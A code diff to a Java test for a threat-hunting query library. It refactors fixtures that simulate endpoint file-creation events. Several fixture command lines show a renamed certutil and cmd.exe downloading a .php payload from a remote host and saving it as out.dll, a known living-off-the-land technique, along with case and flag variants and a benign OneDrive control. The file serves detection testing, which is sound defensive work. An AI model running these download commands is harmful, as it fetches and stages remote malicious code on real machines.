@@ -1,5 +1,6 @@
 package dev.bazahunt.sql;
 
+import static dev.bazahunt.rules.BazaCallFileEvents.payloadWrite;
 import static org.apache.flink.table.api.Expressions.$;
 import static org.assertj.core.api.Assertions.assertThat;
 
@@ -54,17 +55,17 @@ class KqlFunctionsSqlTest {
         tableEnv = StreamTableEnvironment.create(env);
         KqlFunctions.registerAll(tableEnv);
 
-        events.add(fileEvent(1, "x8k2.exe", "x8k2.exe  " + DOWNLOAD));
-        events.add(fileEvent(2, "X8K2.EXE", "X8K2.EXE -URLCACHE -SPLIT -F HTTP://PSHE0PXE339.XYZ/XE1T23YM0S.PHP out.dll"));
-        events.add(fileEvent(3, null, "x8k2.exe  " + DOWNLOAD));
-        events.add(fileEvent(4, "certutil.exe", "certutil.exe " + DOWNLOAD));
-        events.add(fileEvent(5, "CertUtil.EXE", "certutil " + DOWNLOAD));
-        events.add(fileEvent(6, "cmd.exe", "cmd.exe /c x8k2.exe " + DOWNLOAD));
-        events.add(fileEvent(7, "x8k2.exe", "x8k2.exe -urlcache -split -f https://pshe0pxe339.xyz/xe1t23ym0s.php out.dll"));
-        events.add(fileEvent(8, "x8k2.exe", "x8k2.exe /urlcache /split /f http://pshe0pxe339.xyz/xe1t23ym0s.php out.dll"));
-        events.add(fileEvent(9, "x8k2.exe", null));
-        events.add(fileEvent(10, "x8k2.exe", "x8k2.exe -urlcache -splitter -f http://pshe0pxe339.xyz/a.php out.dll"));
-        events.add(fileEvent(11, "OneDrive.exe", "\"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe\" /background"));
+        events.add(payloadWrite(1, "x8k2.exe", "x8k2.exe  " + DOWNLOAD));
+        events.add(payloadWrite(2, "X8K2.EXE", "X8K2.EXE -URLCACHE -SPLIT -F HTTP://PSHE0PXE339.XYZ/XE1T23YM0S.PHP out.dll"));
+        events.add(payloadWrite(3, null, "x8k2.exe  " + DOWNLOAD));
+        events.add(payloadWrite(4, "certutil.exe", "certutil.exe " + DOWNLOAD));
+        events.add(payloadWrite(5, "CertUtil.EXE", "certutil " + DOWNLOAD));
+        events.add(payloadWrite(6, "cmd.exe", "cmd.exe /c x8k2.exe " + DOWNLOAD));
+        events.add(payloadWrite(7, "x8k2.exe", "x8k2.exe -urlcache -split -f https://pshe0pxe339.xyz/xe1t23ym0s.php out.dll"));
+        events.add(payloadWrite(8, "x8k2.exe", "x8k2.exe /urlcache /split /f http://pshe0pxe339.xyz/xe1t23ym0s.php out.dll"));
+        events.add(payloadWrite(9, "x8k2.exe", null));
+        events.add(payloadWrite(10, "x8k2.exe", "x8k2.exe -urlcache -splitter -f http://pshe0pxe339.xyz/a.php out.dll"));
+        events.add(payloadWrite(11, "OneDrive.exe", "\"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe\" /background"));
     }
 
     @Test
@@ -115,19 +116,5 @@ class KqlFunctionsSqlTest {
             rows.forEachRemaining(row -> ids.add((Long) row.getField("ReportId")));
             return Set.copyOf(ids);
         }
-    }
-
-    private static DeviceFileEvent fileEvent(long reportId, String initiatingProcessFileName, String commandLine) {
-        DeviceFileEvent event = new DeviceFileEvent();
-        event.timestamp = 1_626_789_778_103_456_700L + reportId;
-        event.reportId = reportId;
-        event.deviceId = "b2c4e6a8f0123456789abcdef0123456789abcde";
-        event.deviceName = "wks-0142.contoso.local";
-        event.actionType = "FileCreated";
-        event.fileName = "tmp1834.dll";
-        event.folderPath = "C:\\Users\\Public\\x8k2\\tmp1834.dll";
-        event.initiatingProcessFileName = initiatingProcessFileName;
-        event.initiatingProcessCommandLine = commandLine;
-        return event;
     }
 }
